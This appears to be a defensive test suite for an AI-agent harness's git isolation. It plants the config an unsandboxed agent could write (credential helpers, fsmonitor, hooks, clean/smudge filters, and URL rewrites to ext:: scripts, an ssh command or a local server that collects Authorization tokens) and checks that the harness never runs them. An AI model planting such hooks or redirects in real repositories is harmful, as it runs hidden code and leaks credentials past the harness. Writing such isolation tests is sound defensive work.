import { promises as fs } from "node:fs";
import http from "node:http";
import type { AddressInfo } from "node:net";
import os from "node:os";
import path from "node:path";
import { execa } from "execa";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { AGENT_IDENTITY, GitRepository, type WorktreeHandle } from "../../src/adapters/git.js";
import { startFakeGitHub, type FakeGitHub } from "../../src/offline/fake-github/index.js";

// Git isolation (issue 12): what an agent without a sandbox could plant in the
// clone, the worktree's admin dir, info/attributes, the tree and hooks never
// runs in a harness git command, and the agent's own git dir never moves a ref
// of the clone. The remote is the offline fake GitHub over smart HTTP (the
// harness's git refuses local paths and file://).

const OWNER = "octo";
/** Every file starts with this line; a clean or smudge filter that ran would have changed it. */
const ATTRIBUTES = "* filter=x diff=x\n";

let fake: FakeGitHub;
let repos = 0;
let root: string;
let markers: string;
let bin: string;
let url: string;
let remotePath: string;
let repoName: string;
let git: GitRepository;
let worktree: WorktreeHandle;
let agentDir: string;

/**
 * Plain git as a person or the agent runs it: no hardening, only HOME's and the
 * system's config left out. Asynchronous, since the fake GitHub answers in this process.
 */
async function sh(cwd: string, args: string[], env: Record<string, string> = {}): Promise<string> {
  const result = await execa("git", args, { cwd, env: { ...plainEnv(), ...env }, extendEnv: false, timeout: 30_000 });
  return String(result.stdout).trim();
}

/** Like `sh`, but a failure is expected (a planted transport, a refused push) and only its side effects matter. */
async function shMayFail(cwd: string, args: string[]): Promise<void> {
  await execa("git", args, { cwd, env: plainEnv(), extendEnv: false, reject: false, timeout: 30_000 });
}

function plainEnv(): Record<string, string> {
  return {
    PATH: process.env.PATH ?? "/usr/bin:/bin",
    HOME: path.join(root, "agent-home"),
    GIT_CONFIG_GLOBAL: "/dev/null",
    GIT_CONFIG_NOSYSTEM: "1",
    GIT_TERMINAL_PROMPT: "0",
  };
}

const person = { GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@t", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@t" };
const creds = (): { token: string } => ({ token: fake.token });

async function ran(): Promise<string[]> {
  return (await fs.readdir(markers)).sort();
}

/** A script that leaves the marker `name` when it runs, then does `tail`. */
async function script(name: string, tail = ""): Promise<string> {
  const file = path.join(bin, name);
  await fs.writeFile(file, `#!/bin/sh\necho "$@" >> ${path.join(markers, name)}\n${tail}\n`, { mode: 0o755 });
  return file;
}

/** The drivers, helpers and hooks an agent writes into a git config. */
async function plantedSettings(): Promise<Array<[string, string]>> {
  return [
    ["credential.helper", `!${await script("credential")}`],
    ["core.fsmonitor", await script("fsmonitor", "exit 1")],
    ["core.hooksPath", path.join(root, "planted-hooks")],
    ["filter.x.clean", await script("clean", "cat")],
    ["filter.x.smudge", await script("smudge", "cat")],
    ["diff.x.textconv", await script("textconv", 'cat "$1"')],
  ];
}

const HOOKS = ["pre-commit", "commit-msg", "post-commit", "pre-push", "post-checkout", "reference-transaction", "post-index-change", "pre-auto-gc"];

type Redirect = "ext" | "ssh" | "http";
let evil: http.Server;
let evilRequests: string[];

/**
 * Plants everything an agent could without a sandbox: settings in the clone's
 * config and the worktree admin dir's config.worktree, hooks in the clone and
 * in a hooksPath, `* filter=x diff=x` in info/attributes and the tree's
 * .gitattributes, the same in the agent's own git dir, and a rewrite of the
 * remote's URL to a script (ext), an ssh command or a server that collects tokens (http).
 */
async function plant(redirect: Redirect | null): Promise<void> {
  const settings = await plantedSettings();
  const base = `http://127.0.0.1:${new URL(url).port}/`;
  if (redirect === "ext") settings.push(["protocol.ext.allow", "always"], [`url.ext::${await script("ext", "exit 1")} .insteadOf`, base]);
  if (redirect === "ssh")
    settings.push(["protocol.ssh.allow", "always"], ["core.sshCommand", await script("ssh", "exit 1")], ["url.ssh://git@127.0.0.1/.insteadOf", base]);
  if (redirect === "http") {
    // Through an include, so that the rewrite is not even in the clone's config file itself.
    const included = path.join(root, "included.config");
    await fs.writeFile(included, `[url "http://127.0.0.1:${(evil.address() as AddressInfo).port}/"]\n\tinsteadOf = ${base}\n`);
    settings.push(["include.path", included]);
  }
  settings.push(["core.repositoryformatversion", "1"], ["extensions.worktreeConfig", "true"]);
  for (const [key, value] of settings) await sh(root, ["--git-dir", git.cloneDir, "config", "--add", key, value]);
  for (const [key, value] of settings) await sh(root, ["config", "--file", path.join(worktree.gitDir, "config.worktree"), "--add", key, value]);
  for (const [key, value] of settings) await sh(root, ["--git-dir", agentDir, "config", "--add", key, value]);
  for (const dir of [path.join(root, "planted-hooks"), path.join(git.cloneDir, "hooks"), path.join(agentDir, "hooks")]) {
    await fs.mkdir(dir, { recursive: true });
    for (const hook of HOOKS) await fs.copyFile(await script(hook), path.join(dir, hook));
  }
  await fs.mkdir(path.join(git.cloneDir, "info"), { recursive: true });
  await fs.writeFile(path.join(git.cloneDir, "info", "attributes"), ATTRIBUTES);
  await fs.writeFile(path.join(worktree.path, ".gitattributes"), ATTRIBUTES);
}

beforeAll(async () => {
  fake = await startFakeGitHub();
  evil = http.createServer((req, res) => {
    evilRequests.push(`${req.method} ${req.url} ${req.headers.authorization ?? ""}`);
    res.writeHead(404).end();
  });
  await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
});

afterAll(async () => {
  await fake?.close();
  await new Promise((resolve) => evil?.close(resolve));
});

beforeEach(async () => {
  root = await fs.mkdtemp(path.join(os.tmpdir(), "harness-git-isolation-"));
  markers = path.join(root, "markers");
  bin = path.join(root, "bin");
  await fs.mkdir(markers);
  await fs.mkdir(bin);
  await fs.mkdir(path.join(root, "agent-home"));
  evilRequests = [];
  repoName = `isolation-${++repos}`;
  // The repository itself carries the attribute: the next issue's checkout would smudge.
  await fake.createRepo({ owner: OWNER, name: repoName, files: { "README.md": "hello\n", ".gitattributes": ATTRIBUTES } });
  url = fake.gitUrl(OWNER, repoName);
  remotePath = fake.repoPath(OWNER, repoName);
  git = new GitRepository({ cloneDir: path.join(root, "clone.git"), home: path.join(root, "home"), identity: { name: "harness", email: "h@example.com" } });
  await git.ensureClone();
  await git.fetchBranches(url, ["main"], creds());
  worktree = await git.addWorktree(path.join(root, "worktrees", "issue-1"), "harness/issue-1", "refs/remotes/origin/main");
  agentDir = await git.prepareAgentGit(worktree, path.join(root, "session", "agent.git"));
});

afterEach(async () => {
  await fs.rm(root, { recursive: true, force: true });
});

/** Every file under `dir`, with its size: what a write to the clone's object store would change. */
async function listing(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const entry of await fs.readdir(dir, { recursive: true, withFileTypes: true })) {
    if (entry.isFile()) out.push(path.join(entry.parentPath, entry.name));
  }
  return out.sort();
}

describe("the agent git dir", () => {
  it("lets the agent status, diff, add, commit and log in the worktree, and moves nothing of the clone", async () => {
    const refsBefore = await sh(root, ["--git-dir", git.cloneDir, "for-each-ref"]);
    const objectsBefore = await listing(git.cloneObjectsDir);
    const start = await git.head(worktree);
    const agent = (...args: string[]): Promise<string> => sh(worktree.path, args);

    expect(await fs.readFile(path.join(worktree.path, ".git"), "utf8")).toBe(`gitdir: ${agentDir}\n`);
    expect(await agent("rev-parse", "--absolute-git-dir")).toBe(agentDir);
    expect(await agent("status", "--porcelain")).toBe("");
    expect(await agent("rev-parse", "HEAD")).toBe(start);
    await fs.writeFile(path.join(worktree.path, "README.md"), "hello agent\n");
    await fs.writeFile(path.join(worktree.path, "new.txt"), "new\n");
    expect(await agent("status", "--porcelain")).toBe("M README.md\n?? new.txt"); // sh trims the leading space of " M"
    expect(await agent("diff")).toContain("+hello agent");
    await agent("add", "--all");
    await agent("commit", "--quiet", "-m", "agent work");
    expect(await agent("log", "--format=%s|%an|%ae")).toBe(
      `agent work|${AGENT_IDENTITY.name}|${AGENT_IDENTITY.email}\nInitial commit|${OWNER}|${await agent("log", "-1", "--format=%ae", start)}`,
    );
    const agentHead = await agent("rev-parse", "HEAD");
    expect(await agent("rev-parse", "--abbrev-ref", "HEAD")).toBe("harness/issue-1");
    await agent("gc", "--quiet");

    // The clone: no ref moved, not one file more in its object store; the admin dir's HEAD is where it was.
    expect(await sh(root, ["--git-dir", git.cloneDir, "for-each-ref"])).toBe(refsBefore);
    expect(await listing(git.cloneObjectsDir)).toEqual(objectsBefore);
    expect(await git.head(worktree)).toBe(start);
    expect(await git.hasCommit(agentHead)).toBe(false);
    // git's prune keeps the worktree's admin dir: the worktree's `.git` is there, wherever it points.
    await git.run(["worktree", "prune"]);
    await expect(fs.stat(worktree.gitDir)).resolves.toBeTruthy();

    // The harness publishes the tree as data from its own admin dir, not the agent's commit.
    const published = await git.commitAll(worktree, "harness: work on #1");
    expect(published).not.toBe(agentHead);
    await git.push(url, worktree, creds());
    expect(await sh(root, ["--git-dir", remotePath, "show", "harness/issue-1:README.md"])).toBe("hello agent");
    expect(await sh(root, ["--git-dir", remotePath, "show", "harness/issue-1:new.txt"])).toBe("new");
    expect(await sh(root, ["--git-dir", remotePath, "rev-list", "--count", "harness/issue-1"])).toBe("2");

    await git.removeWorktree(worktree.path);
    await expect(fs.stat(worktree.path)).rejects.toThrow();
    expect(await sh(root, ["--git-dir", git.cloneDir, "worktree", "list"])).not.toContain("issue-1");
    await expect(fs.stat(path.join(git.cloneDir, "worktrees", "issue-1"))).rejects.toThrow();
  });

  it("is refused inside the worktree or the clone, where the harness would publish or trust it", async () => {
    await expect(git.prepareAgentGit(worktree, path.join(worktree.path, "agent.git"))).rejects.toMatchObject({ code: "EHARNESS_GIT" });
    await expect(git.prepareAgentGit(worktree, path.join(git.cloneDir, "agent.git"))).rejects.toMatchObject({ code: "EHARNESS_GIT" });
    await expect(git.prepareAgentGit(worktree, "relative/agent.git")).rejects.toMatchObject({ code: "EHARNESS_GIT" });
  });
});

describe("the harness's git transports", () => {
  it("refuses local paths, file://, ext:: and ssh even when the repository's config allows them", async () => {
    await sh(root, ["--git-dir", git.cloneDir, "config", "protocol.allow", "always"]);
    await sh(root, ["--git-dir", git.cloneDir, "config", "protocol.ext.allow", "always"]);
    const ext = `ext::${await script("ext", "exit 1")} x`;
    for (const remote of [remotePath, `file://${remotePath}`, ext, "ssh://git@127.0.0.1/x.git"]) {
      await expect(git.remoteHeads(remote, ["main"], creds())).rejects.toMatchObject({ code: "EHARNESS_GIT" });
    }
    expect(await ran()).toEqual([]);
  });
});

describe.each<Redirect | null>([null, "ext", "ssh", "http"])("planted by the agent (URL rewrite: %s)", (redirect) => {
  it("the plants are live: plain git runs them", async () => {
    await plant(redirect);
    const at = ["--git-dir", worktree.gitDir, "--work-tree", worktree.path];
    const authed = url.replace("http://", `http://x-access-token:${fake.token}@`);
    await shMayFail(root, ["--git-dir", git.cloneDir, "ls-remote", url]);
    if (redirect === "ext") expect(await ran()).toContain("ext");
    if (redirect === "ssh") expect(await ran()).toContain("ssh");
    if (redirect === "http") expect(evilRequests.length).toBeGreaterThan(0);
    if (redirect !== null) return;
    await fs.writeFile(path.join(worktree.path, "README.md"), "changed\n");
    await sh(root, [...at, "status"]);
    await sh(root, [...at, "diff"]);
    await sh(root, [...at, "add", "--all"]);
    await sh(root, [...at, "commit", "--quiet", "-m", "plain"], person);
    await shMayFail(root, ["--git-dir", git.cloneDir, "push", url, "refs/heads/harness/issue-1:refs/heads/unauthenticated"]);
    await sh(root, ["--git-dir", git.cloneDir, "push", "--quiet", authed, "refs/heads/harness/issue-1:refs/heads/plain"]);
    await sh(root, ["--git-dir", git.cloneDir, "worktree", "add", "--quiet", path.join(root, "plain-worktree"), "refs/remotes/origin/main"]);
    expect(await ran()).toEqual(expect.arrayContaining(["clean", "credential", "fsmonitor", "post-checkout", "pre-commit", "pre-push", "smudge", "textconv"]));
  });

  it("runs none of them in fetch, remoteHeads, addWorktree, commitAll, push and pushRef; the push lands as written", async () => {
    const ops: Array<[string, () => Promise<unknown>]> = [
      ["remoteHeads", () => git.remoteHeads(url, ["main", "harness/issue-1"], creds())],
      ["fetchBranches", () => git.fetchBranches(url, ["main"], creds())],
      ["fetchChanged", () => git.fetchChanged(url, new Map([["main", "0".repeat(40)]]), creds())],
      [
        "addWorktree",
        async () => {
          const next = await git.addWorktree(path.join(root, "worktrees", "issue-2"), "harness/issue-2", "refs/remotes/origin/main");
          expect(await fs.readFile(path.join(next.path, "README.md"), "utf8")).toBe("hello\n");
        },
      ],
      [
        "commitAll",
        async () => {
          await fs.writeFile(path.join(worktree.path, "README.md"), "hello\nsecond line\n");
          await fs.writeFile(path.join(worktree.path, "work.txt"), "done\n");
          expect(await git.commitAll(worktree, "harness: work on #1")).toMatch(/^[0-9a-f]{40}$/);
        },
      ],
      ["push", () => git.push(url, worktree, creds())],
      [
        "pushRef",
        async () => {
          const tree = (await git.run(["mktree"], { input: "" })).stdout.trim();
          const sha = await git.commitTree(tree, [], "lease");
          expect(await git.pushRef(url, sha, "refs/harness/leases/issue-1", creds())).toBe("landed");
        },
      ],
    ];
    const mainBefore = await fake.readRef(OWNER, repoName, "refs/heads/main");
    for (const [name, op] of ops) {
      await plant(redirect);
      await op();
      expect({ name, ran: await ran(), evil: evilRequests }).toEqual({ name, ran: [], evil: [] });
    }
    const show = async (spec: string): Promise<string> =>
      String((await execa("git", ["--git-dir", remotePath, "show", spec], { stripFinalNewline: false })).stdout);
    expect(await show("harness/issue-1:README.md")).toBe("hello\nsecond line\n");
    expect(await show("harness/issue-1:work.txt")).toBe("done\n");
    expect(await show("harness/issue-1:.gitattributes")).toBe(ATTRIBUTES);
    expect(await fake.readRef(OWNER, repoName, "refs/harness/leases/issue-1")).toMatch(/^[0-9a-f]{40}$/);
    expect(await fake.readRef(OWNER, repoName, "refs/heads/main")).toBe(mainBefore);
    // What the agent planted in the clone is gone; its own git dir is its own business.
    const config = await fs.readFile(path.join(git.cloneDir, "config"), "utf8");
    expect(config).not.toMatch(/insteadOf|include|helper|fsmonitor|hooksPath|filter|textconv|worktreeConfig/);
    await expect(fs.stat(path.join(git.cloneDir, "info", "attributes"))).rejects.toThrow();
    expect(await fs.readFile(path.join(agentDir, "config"), "utf8")).toContain("fsmonitor");
  });
});
